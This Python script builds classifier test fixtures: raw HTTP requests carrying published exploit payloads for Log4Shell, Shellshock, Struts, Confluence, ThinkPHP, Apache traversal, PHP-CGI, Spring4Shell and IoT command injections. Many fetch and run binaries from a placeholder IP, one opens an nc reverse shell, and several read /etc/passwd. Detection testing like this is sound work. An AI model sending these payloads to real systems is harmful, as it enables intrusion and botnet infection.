#!/usr/bin/env python3
"""Writes the labelled request corpus (one raw HTTP request per file) and labels.tsv.

Every attack request is a payload published in a public exploit source (exploit-db, nuclei templates,
vendor advisories, honeypot reports); the `source` column says which. Nothing is ever sent anywhere:
the files are test fixtures for MitsuWebTests/ClassifierCorpusTests.

labels.tsv columns: file, expected categories (all must be found), allowed extra categories (may be
found, count neither way), expected CVEs, source. Benign requests expect nothing and allow nothing.
Run: python3 make_corpus.py  (rewrites attacks/ and benign/)."""
import os, shutil, base64

HERE = os.path.dirname(os.path.abspath(__file__))
UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
BOT = "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)"
attacks, benign = [], []


def req(method, target, headers=None, body=b"", host="203.0.113.10", version="HTTP/1.1", ua=UA):
    if isinstance(body, str):
        body = body.encode()
    lines = [f"{method} {target} {version}", f"Host: {host}"]
    hs = dict(headers or {})
    if ua is not None and "User-Agent" not in hs:
        hs["User-Agent"] = ua
    for k, v in hs.items():
        lines.append(f"{k}: {v}")
    if body and "Content-Length" not in hs and "Transfer-Encoding" not in hs:
        lines.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body


def A(name, cats, cves, source, raw, allow=""):
    attacks.append((name, cats, allow, cves, source, raw))


def B(name, source, raw):
    benign.append((name, source, raw))

FORM = {"Content-Type": "application/x-www-form-urlencoded"}

# ------------------------------------------------------------------ Log4Shell CVE-2021-44228
L = "CVE-2021-44228"
src = "nuclei http/cves/2021/CVE-2021-44228.yaml; CISA/LunaSec Log4Shell advisories"
A("log4shell-query", "jndi", L, src, req("GET", "/?x=${jndi:ldap://198.51.100.7:1389/a}"))
A("log4shell-ua", "jndi", L, "GreyNoise Log4Shell tag, honeypot logs", req("GET", "/", ua="${jndi:ldap://45.83.64.1:1389/Exploit}"))
A("log4shell-xapiversion", "jndi", L, "Fastly/Cloudflare Log4Shell reports", req("GET", "/", {"X-Api-Version": "${jndi:ldap://198.51.100.7/a}"}))
A("log4shell-lower", "jndi", L, "Cloudflare blog: Log4Shell obfuscation", req("GET", "/", ua="${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://198.51.100.7/poc}"))
A("log4shell-colon-dash", "jndi", L, "Cloudflare blog: Log4Shell obfuscation", req("GET", "/", {"Referer": "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.7/poc}"}))
A("log4shell-env", "jndi", L, "SANS ISC diary 28120", req("GET", "/", ua="${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//198.51.100.7/a}"))
A("log4shell-urlencoded-path", "jndi", L, "honeypot logs (T-Pot community)", req("GET", "/%24%7Bjndi%3Aldap%3A%2F%2F45.155.205.233%3A12344%2FBasic%2FCommand%2FBase64%2FKGN1cmwgLXMgNDUuMTU1LjIwNS4yMzM6NTg3NC8xLjIuMy40OjgwfHx3Z2V0IC1xIC1PLSA0NS4xNTUuMjA1LjIzMzo1ODc0LzEuMi4zLjQ6ODApfGJhc2g%3D%7D"))
A("log4shell-cookie", "jndi", L, "Imperva Log4Shell analysis", req("GET", "/", {"Cookie": "JSESSIONID=${jndi:rmi://198.51.100.7:1099/obj}"}))
A("log4shell-json", "jndi", L, "nuclei workflows: log4j JSON login", req("POST", "/api/login", {"Content-Type": "application/json"}, '{"username":"${jndi:ldap://198.51.100.7/u}","password":"x"}'))
A("log4shell-upper", "jndi", L, "Cloudflare blog: Log4Shell obfuscation", req("GET", "/", {"X-Forwarded-For": "${${upper:j}ndi:ldaps://198.51.100.7/a}"}))
A("log4shell-k8s", "jndi", L, "Log4Shell WAF bypass list (Puliczek/CVE-2021-44228-PoC-log4j-bypass-words)", req("GET", "/", ua="${j${k8s:k5:-ND}i${sd:k5:-:}ldap://198.51.100.7/a}"))
A("log4shell-solr", "jndi", L, "nuclei http/cves/2021/CVE-2021-44228 (Solr)", req("GET", "/solr/admin/cores?action=${jndi:ldap://${sys:java.version}.198.51.100.7.example/a}"))
A("log4shell-dns", "jndi", L, "GreyNoise Log4Shell tag", req("GET", "/", {"X-Forwarded-Host": "${jndi:dns://198.51.100.7/test}"}))
A("log4shell-vcenter", "jndi", L, "nuclei http/cves/2021/CVE-2021-44228 (vCenter)", req("GET", "/websso/SAML2/SSO/vsphere.local?SAMLRequest=", {"X-Forwarded-For": "${jndi:ldap://198.51.100.7/a}"}))
A("log4shell-date", "jndi", L, "Log4Shell bypass words list", req("GET", "/", {"Authorization": "Bearer ${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://198.51.100.7/a}"}))
A("log4shell-hostname-lookup", "jndi", L, "honeypot logs (T-Pot community)", req("GET", "/?q=${jndi:ldap://${hostName}.c6ptest.example/a}"))
# ------------------------------------------------------------------ Shellshock CVE-2014-6271
S = "CVE-2014-6271"
A("shellshock-ua-cat", "shellshock", S, "exploit-db 34765", req("GET", "/cgi-bin/test.cgi", ua="() { :; }; echo; echo; /bin/bash -c 'cat /etc/passwd'"), allow="cmd_injection,lfi")
A("shellshock-referer-wget", "shellshock", S, "exploit-db 34900", req("GET", "/cgi-bin/status", {"Referer": "() { :;}; /bin/bash -c \"wget http://198.51.100.7/x -O /tmp/x;chmod 777 /tmp/x;/tmp/x\""}), allow="cmd_injection")
A("shellshock-cookie-ping", "shellshock", S, "Cloudflare Shellshock report", req("GET", "/cgi-bin/index.cgi", {"Cookie": "() { :; }; ping -c 3 198.51.100.7"}), allow="cmd_injection")
A("shellshock-ignored", "shellshock", S, "nuclei http/cves/2014/CVE-2014-6271.yaml", req("GET", "/cgi-bin/admin.cgi", ua="() { ignored; }; echo Content-Type: text/plain ; echo ; echo ; /usr/bin/id"), allow="cmd_injection")
A("shellshock-host-header", "shellshock", S, "SANS ISC Shellshock scans", req("GET", "/cgi-bin/php5", {"X-Forwarded-For": "() { :; }; /bin/bash -c 'nc 198.51.100.7 4444 -e /bin/bash'"}), allow="cmd_injection")
A("shellshock-uname", "shellshock", S, "exploit-db 34766", req("GET", "/cgi-sys/entropysearch.cgi", ua="() { :;}; echo Content-type:text/plain;echo;/bin/uname -a"), allow="cmd_injection")
# ------------------------------------------------------------------ Struts
A("struts-s2-045", "ognl,cmd_injection", "CVE-2017-5638", "exploit-db 41570",
  req("GET", "/struts2-showcase/index.action", {"Content-Type": "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd})).(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start()).(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream())).(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}"}), allow="deserialization")
A("struts-s2-045-wget", "ognl,cmd_injection", "CVE-2017-5638", "honeypot logs (Struts mass exploitation, Talos)",
  req("POST", "/index.action", {"Content-Type": "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#cmd='cd /tmp;wget http://198.51.100.7/bins.sh;sh bins.sh').(#cmds={'/bin/bash','-c',#cmd}).(#p=new java.lang.ProcessBuilder(#cmds)).(#process=#p.start())}"}, "x"), allow="deserialization")
A("struts-s2-057", "ognl", "CVE-2018-11776", "nuclei http/cves/2018/CVE-2018-11776.yaml",
  req("GET", "/struts2-showcase/%24%7B%28%23_memberAccess%5B%22allowStaticMethodAccess%22%5D%3Dtrue%2C%23a%3D@java.lang.Runtime@getRuntime%28%29.exec%28%27id%27%29.getInputStream%28%29%2C%23b%3Dnew%20java.io.InputStreamReader%28%23a%29%2C%23c%3Dnew%20%20java.io.BufferedReader%28%23b%29%2C%23d%3Dnew%20char%5B51020%5D%2C%23c.read%28%23d%29%2C%23sbtest%3D@org.apache.struts2.ServletActionContext@getResponse%28%29.getWriter%28%29%2C%23sbtest.println%28%23d%29%2C%23sbtest.close%28%29%29%7D/actionChain1.action"), allow="cmd_injection,ssti")
A("struts-s2-032", "ognl", "CVE-2016-3081", "exploit-db 39756",
  req("GET", "/index.action?method:%23_memberAccess%3d@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,%23res%3d%40org.apache.struts2.ServletActionContext%40getResponse(),%23res.getWriter().print(%23parameters.x[0]),%23res.getWriter().flush(),%23res.getWriter().close&x=struts2_security_check"), allow="cmd_injection")
# ------------------------------------------------------------------ Confluence
A("confluence-26134", "ognl", "CVE-2022-26134", "nuclei http/cves/2022/CVE-2022-26134.yaml",
  req("GET", "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/"), allow="cmd_injection,ssti")
A("confluence-26134-curl", "ognl", "CVE-2022-26134", "Volexity Confluence report",
  req("GET", "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22curl%20-fsSL%20http%3A%2F%2F198.51.100.7%2Fx.sh%20-o%20%2Ftmp%2Fx.sh%22%29%7D/"), allow="cmd_injection,ssti")
A("confluence-22515", "exploit", "CVE-2023-22515", "Rapid7 CVE-2023-22515 analysis",
  req("GET", "/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false"), allow="recon")
# ------------------------------------------------------------------ PHPUnit
P = "CVE-2017-9841"
for i, path in enumerate(["/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                          "/lib/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/www/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                          "/api/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"]):
    A(f"phpunit-{i}", "php_code_injection", P, "nuclei http/cves/2017/CVE-2017-9841.yaml; honeypot logs",
      req("POST", path, {"Content-Type": "text/html"}, "<?php echo md5(phpunit_rce); ?>"), allow="recon")
A("phpunit-get", "php_code_injection", P, "honeypot logs (Androxgh0st)", req("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"), allow="recon")
# ------------------------------------------------------------------ ThinkPHP
T = "CVE-2018-20062"
A("thinkphp-invoke-md5", "cmd_injection,php_code_injection", T, "exploit-db 45978",
  req("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP"))
A("thinkphp-invoke-wget", "cmd_injection,php_code_injection", T, "honeypot logs (Mirai variants)",
  req("GET", "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=cd%20/tmp;rm%20-rf%20*;wget%20http://198.51.100.7/bins/x86;chmod%20777%20x86;./x86%20thinkphp"))
A("thinkphp-invoke-phpinfo", "cmd_injection,php_code_injection", T, "nuclei http/vulnerabilities/thinkphp/thinkphp-5022-rce.yaml",
  req("GET", "/?s=index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1"))
A("thinkphp-invoke-encoded", "cmd_injection,php_code_injection", T, "honeypot logs",
  req("GET", "/public/index.php?s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars%5B0%5D=system&vars%5B1%5D%5B%5D=id"))
A("thinkphp-5023", "php_code_injection", "CVE-2019-9082", "nuclei http/vulnerabilities/thinkphp/thinkphp-5023-rce.yaml",
  req("POST", "/index.php?s=captcha", FORM, "_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id"), allow="cmd_injection")
A("thinkphp-5023-b", "php_code_injection", "CVE-2019-9082", "exploit-db 46150",
  req("POST", "/index.php?s=captcha", FORM, "_method=__construct&filter[]=phpinfo&method=get&server[REQUEST_METHOD]=-1"), allow="cmd_injection")
# ------------------------------------------------------------------ GPON
A("gpon-diag", "cmd_injection", "CVE-2018-10561,CVE-2018-10562", "exploit-db 44576",
  req("POST", "/GponForm/diag_Form?images/", FORM, "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.7/gpon+-O+/tmp/gaf;sh+/tmp/gaf`&ipv=0"), allow="exploit")
A("gpon-diag-ls", "cmd_injection", "CVE-2018-10561,CVE-2018-10562", "vpnMentor GPON advisory",
  req("POST", "/GponForm/diag_Form?images/", FORM, "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`ls`;ls&ipv=0"), allow="exploit")
A("gpon-bypass-menu", "exploit", "CVE-2018-10561", "vpnMentor GPON advisory", req("GET", "/menu.html?images/"))
# ------------------------------------------------------------------ Huawei HG532
HG = """<?xml version="1.0" ?>
<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/">
<s:Body><u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1">
<NewStatusURL>$(/bin/busybox wget -g 198.51.100.7 -l /tmp/binary -r /bins/mips; /bin/busybox chmod 777 * /tmp/binary; /tmp/binary huawei.rep)</NewStatusURL>
<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL>
</u:Upgrade>
</s:Body>
</s:Envelope>"""
A("hg532-upnp", "cmd_injection", "CVE-2017-17215", "exploit-db 43414; Check Point HG532 report",
  req("POST", "/ctrlt/DeviceUpgrade_1", {"Content-Type": "text/xml", "Authorization": 'Digest username="dslf-config", realm="HuaweiHomeGateway", nonce="88645cefb1f9ede0e336e3569d75ee30", uri="/ctrlt/DeviceUpgrade_1", response="3612f843a42db38f48f59d2a3597e19c", algorithm="MD5", qop="auth", nc=00000001, cnonce="248d1a2560100669"', "SOAPAction": "urn:schemas-upnp-org:service:WANPPPConnection:1#Upgrade"}, HG, host="198.51.100.20:37215"))
A("hg532-upnp-okiru", "cmd_injection", "CVE-2017-17215", "honeypot logs (Okiru)",
  req("POST", "/ctrlt/DeviceUpgrade_1", {"Content-Type": "text/xml"}, HG.replace("huawei.rep", "okiru"), host="198.51.100.20:37215"))
# ------------------------------------------------------------------ D-Link HNAP
A("dlink-hnap-soap", "cmd_injection", "CVE-2015-2051", "exploit-db 37171",
  req("POST", "/HNAP1/", {"Content-Type": "text/xml; charset=\"utf-8\"", "SOAPAction": "http://purenetworks.com/HNAP1/`cd /tmp && rm -rf * && wget http://198.51.100.7/bins/mips && chmod 777 mips && ./mips hnap`"}, "<xml/>"), allow="recon")
A("dlink-hnap-get", "cmd_injection", "CVE-2015-2051", "honeypot logs (Moobot)",
  req("GET", "/HNAP1/", {"SOAPAction": "http://purenetworks.com/HNAP1/GetDeviceSettings/`cd /tmp; wget http://198.51.100.7/x; sh x`"}), allow="recon,scanner")
A("dlink-dir-command", "cmd_injection", "", "exploit-db 45998 (D-Link DIR command.php)",
  req("POST", "/command.php", FORM, "cmd=wget http://198.51.100.7/bins.sh; sh bins.sh"))
A("dlink-dns320", "cmd_injection", "CVE-2020-25506", "nuclei http/cves/2020/CVE-2020-25506.yaml",
  req("GET", "/cgi-bin/system_mgr.cgi?cmd=cgi_get_log_item&total=;id;"))
# ------------------------------------------------------------------ Realtek
RT = """<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"><NewRemoteHost></NewRemoteHost><NewExternalPort>47450</NewExternalPort><NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort><NewInternalClient>`cd /var; rm -rf nig; wget http://198.51.100.7/nig; chmod 777 nig; ./nig realtek`</NewInternalClient><NewEnabled>1</NewEnabled><NewPortMappingDescription>syncthing</NewPortMappingDescription><NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>"""
A("realtek-miniigd", "cmd_injection", "CVE-2014-8361", "exploit-db 37169; Palo Alto Unit42 Mirai reports",
  req("POST", "/picsdesc.xml", {"Content-Type": "text/xml", "SOAPAction": "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"}, RT, host="198.51.100.20:52869"))
A("realtek-miniigd-wget", "cmd_injection", "CVE-2014-8361", "honeypot logs (Satori)",
  req("POST", "/wanipcn.xml", {"Content-Type": "text/xml", "SOAPAction": "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"}, RT.replace("nig realtek", "nig realtek.2"), host="198.51.100.20:52869"))
# ------------------------------------------------------------------ Apache 2.4.49/50
A("apache-41773-passwd", "path_traversal", "CVE-2021-41773", "nuclei http/cves/2021/CVE-2021-41773.yaml",
  req("GET", "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"), allow="lfi")
A("apache-41773-cgi", "path_traversal,cmd_injection", "CVE-2021-41773", "exploit-db 50383",
  req("POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", FORM, "echo Content-Type: text/plain; echo; id"))
A("apache-41773-cgi-wget", "path_traversal,cmd_injection", "CVE-2021-41773", "honeypot logs",
  req("POST", "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh", FORM, "X=$(curl http://198.51.100.7/sh || wget http://198.51.100.7/sh -O-) | sh"))
A("apache-42013", "path_traversal", "CVE-2021-42013", "nuclei http/cves/2021/CVE-2021-42013.yaml",
  req("GET", "/icons/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd"), allow="lfi")
A("apache-42013-cgi", "path_traversal,cmd_injection", "CVE-2021-42013", "exploit-db 50406",
  req("POST", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh", FORM, "echo;id"))
A("apache-42013-b", "path_traversal", "CVE-2021-42013", "nuclei http/cves/2021/CVE-2021-42013.yaml",
  req("GET", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd"), allow="lfi")
# ------------------------------------------------------------------ PHP-CGI
A("php-cgi-1823", "php_code_injection", "CVE-2012-1823", "exploit-db 18836",
  req("POST", "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", FORM, "<?php system('id'); die(); ?>"), allow="lfi,cmd_injection")
A("php-cgi-1823-cgibin", "php_code_injection", "CVE-2012-1823", "honeypot logs",
  req("POST", "/cgi-bin/php?%2D%64+%61%6C%6C%6F%77%5F%75%72%6C%5F%69%6E%63%6C%75%64%65%3D%6F%6E+%2D%64+%73%61%66%65%5F%6D%6F%64%65%3D%6F%66%66+%2D%64+%73%75%68%6F%73%69%6E%2E%73%69%6D%75%6C%61%74%69%6F%6E%3D%6F%6E+%2D%64+%64%69%73%61%62%6C%65%5F%66%75%6E%63%74%69%6F%6E%73%3D%22%22+%2D%64+%6F%70%65%6E%5F%62%61%73%65%64%69%72%3D%6E%6F%6E%65+%2D%64+%61%75%74%6F%5F%70%72%65%70%65%6E%64%5F%66%69%6C%65%3D%70%68%70%3A%2F%2F%69%6E%70%75%74+%2D%64+%63%67%69%2E%66%6F%72%63%65%5F%72%65%64%69%72%65%63%74%3D%30+%2D%64+%63%67%69%2E%72%65%64%69%72%65%63%74%5F%73%74%61%74%75%73%5F%65%6E%76%3D%30+%2D%6E", FORM, "<?php system(\"wget http://198.51.100.7/x -O /tmp/x\"); ?>"), allow="lfi,cmd_injection")
A("php-cgi-1823-source", "php_code_injection", "CVE-2012-1823", "exploit-db 18836 (-s)", req("GET", "/index.php?-s"))
A("php-cgi-4577", "php_code_injection", "CVE-2024-4577", "watchTowr CVE-2024-4577 PoC",
  req("POST", "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", FORM, "<?php echo(md5('x'));?>"), allow="lfi,cmd_injection")
A("php-cgi-4577-b", "php_code_injection", "CVE-2024-4577", "nuclei http/cves/2024/CVE-2024-4577.yaml",
  req("POST", "/test.php?%ADd+cgi.force_redirect%3d0+%ADd+disable_functions%3d%22%22+%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", FORM, "<?php phpinfo(); ?>"), allow="lfi,cmd_injection,recon")
# ------------------------------------------------------------------ Drupalgeddon2
A("drupalgeddon2", "php_code_injection", "CVE-2018-7600", "exploit-db 44449",
  req("POST", "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax", FORM, "form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=echo ;-)| tee hello.txt"), allow="cmd_injection")
A("drupalgeddon2-7", "php_code_injection", "CVE-2018-7600", "nuclei http/cves/2018/CVE-2018-7600.yaml",
  req("POST", "/?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=id", FORM, "form_id=user_pass&_triggering_element_name=name"), allow="cmd_injection")
# ------------------------------------------------------------------ vBulletin
A("vbulletin-16759", "php_code_injection", "CVE-2019-16759", "exploit-db 47447",
  req("POST", "/index.php?routestring=ajax/render/widget_php", FORM, "widgetConfig[code]=echo shell_exec('id'); exit;"), allow="cmd_injection")
A("vbulletin-17496", "php_code_injection", "CVE-2020-17496", "nuclei http/cves/2020/CVE-2020-17496.yaml",
  req("POST", "/ajax/render/widget_tabbedcontainer_tab_panel", FORM, "subWidgets[0][template]=widget_php&subWidgets[0][config][code]=phpinfo();"), allow="recon")
# ------------------------------------------------------------------ Laravel Ignition
A("ignition-3129", "php_code_injection", "CVE-2021-3129", "nuclei http/cves/2021/CVE-2021-3129.yaml",
  req("POST", "/_ignition/execute-solution", {"Content-Type": "application/json"}, '{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":{"variableName":"username","viewFile":"php://filter/write=convert.iconv.utf-8.utf-16be|convert.quoted-printable-encode|convert.iconv.utf-16be.utf-8|convert.base64-decode/resource=../storage/logs/laravel.log"}}'), allow="lfi,deserialization")
A("ignition-3129-phar", "php_code_injection", "CVE-2021-3129", "ambionics CVE-2021-3129 write-up",
  req("POST", "/_ignition/execute-solution", {"Content-Type": "application/json"}, '{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":{"variableName":"x","viewFile":"phar://../storage/logs/laravel.log/test.txt"}}'), allow="lfi,deserialization")
# ------------------------------------------------------------------ Spring
A("spring4shell", "cmd_injection", "CVE-2022-22965", "nuclei http/cves/2022/CVE-2022-22965.yaml",
  req("POST", "/", FORM, "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20%7D%20%25%7Bsuffix%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat="),
  allow="ognl,webshell,php_code_injection,ssti")
A("spring4shell-get", "cmd_injection", "CVE-2022-22965", "Spring4Shell scanner (honeypot logs)",
  req("GET", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=test"))
A("spring-cloud-function", "cmd_injection", "CVE-2022-22963", "nuclei http/cves/2022/CVE-2022-22963.yaml",
  req("POST", "/functionRouter", {"spring.cloud.function.routing-expression": "T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwned\")", "Content-Type": "text/plain"}, "test"), allow="deserialization")
A("spring-actuator-gateway", "recon", "", "nuclei http/misconfiguration/springboot/springboot-gateway.yaml", req("GET", "/actuator/gateway/routes"))
# ------------------------------------------------------------------ F5, Citrix, WebLogic, Fortinet, Pulse
A("f5-1388", "cmd_injection", "CVE-2022-1388", "nuclei http/cves/2022/CVE-2022-1388.yaml",
  req("POST", "/mgmt/tm/util/bash", {"Content-Type": "application/json", "Connection": "keep-alive, X-F5-Auth-Token", "X-F5-Auth-Token": "a", "Authorization": "Basic YWRtaW46"}, '{"command": "run", "utilCmdArgs": "-c id"}'), allow="bruteforce")
A("f5-5902", "cmd_injection,path_traversal", "CVE-2020-5902", "nuclei http/cves/2020/CVE-2020-5902.yaml",
  req("GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd"), allow="lfi")
A("citrix-19781", "path_traversal", "CVE-2019-19781", "exploit-db 47901",
  req("GET", "/vpn/../vpns/cfg/smb.conf"))
A("citrix-19781-newbm", "path_traversal,cmd_injection", "CVE-2019-19781", "exploit-db 47902",
  req("POST", "/vpn/../vpns/portal/scripts/newbm.pl", {"NSC_USER": "../../../netscaler/portal/templates/x", "NSC_NONCE": "nsroot", "Content-Type": "application/x-www-form-urlencoded"}, "url=http://example.com&title=[% template.new({'BLOCK'='print `id`'}) %]&desc=desc&UI_inuse=RfWeb"), allow="ssti")
A("weblogic-14882", "path_traversal", "CVE-2020-14882", "nuclei http/cves/2020/CVE-2020-14882.yaml",
  req("GET", "/console/css/%252e%252e%252fconsole.portal"))
A("weblogic-14882-rce", "path_traversal", "CVE-2020-14882", "exploit-db 49479",
  req("GET", "/console/images/%252E%252E%252Fconsole.portal?_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec(%27id%27);%22)"), allow="deserialization,cmd_injection")
A("weblogic-10271", "deserialization,xxe", "CVE-2017-10271", "exploit-db 43458",
  req("POST", "/wls-wsat/CoordinatorPortType", {"Content-Type": "text/xml"}, '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8.0_151" class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/bash</string></void><void index="1"><string>-c</string></void><void index="2"><string>wget http://198.51.100.7/x</string></void></array><void method="start"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>'), allow="cmd_injection")
A("fortinet-13379", "path_traversal", "CVE-2018-13379", "exploit-db 47287",
  req("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"), allow="recon")
A("pulse-11510", "path_traversal", "CVE-2019-11510", "exploit-db 47297",
  req("GET", "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/"), allow="lfi")
A("fortinet-40684", "exploit", "CVE-2022-40684", "Horizon3 CVE-2022-40684 PoC",
  req("PUT", "/api/v2/cmdb/system/admin/admin", {"User-Agent": "Report Runner", "Forwarded": 'for="[127.0.0.1]:8000";by="[127.0.0.1]:9000";', "Content-Type": "application/json"}, '{"ssh-public-key1": "ssh-rsa AAAA"}'), allow="recon")
# ------------------------------------------------------------------ Hikvision, TP-Link, Zyxel, others
A("hikvision-36260", "cmd_injection", "CVE-2021-36260", "exploit-db 50441",
  req("PUT", "/SDK/webLanguage", {"Content-Type": "application/x-www-form-urlencoded; charset=UTF-8", "X-Requested-With": "XMLHttpRequest"}, "<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>$(id>webLib/x)</language>"))
A("hikvision-36260-wget", "cmd_injection", "CVE-2021-36260", "honeypot logs (Moobot)",
  req("PUT", "/SDK/webLanguage", {"Content-Type": "application/xml"}, "<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>$(cd /tmp;wget http://198.51.100.7/h;sh h)</language>"))
A("tplink-1389", "cmd_injection", "CVE-2023-1389", "nuclei http/cves/2023/CVE-2023-1389.yaml",
  req("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+-O-+http://198.51.100.7/x|sh`)"))
A("tplink-1389-post", "cmd_injection", "CVE-2023-1389", "ZDI-23-451 / Tenable TRA-2023-11",
  req("POST", "/cgi-bin/luci/;stok=/locale?form=country", FORM, "operation=write&country=$(wget http://198.51.100.7/tp -O- | sh)"))
A("zyxel-30525", "cmd_injection", "CVE-2022-30525", "Rapid7 CVE-2022-30525 PoC",
  req("POST", "/ztp/cgi-bin/handler", {"Content-Type": "application/json"}, '{"command":"setWanPortSt","proto":"dhcp","port":"4","vlan_tagged":"1","vlanid":"5","mtu":"; bash -c \\"id\\";","data":"hi"}'))
A("zyxel-18368", "cmd_injection", "CVE-2017-18368", "exploit-db 49212 (Zyxel P660HN ViewLog)",
  req("POST", "/cgi-bin/ViewLog.asp", FORM, "remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0&remote_host=%3bcd+/tmp;wget+http://198.51.100.7/z;sh+z%3b%23&remoteSubmit=Save"))
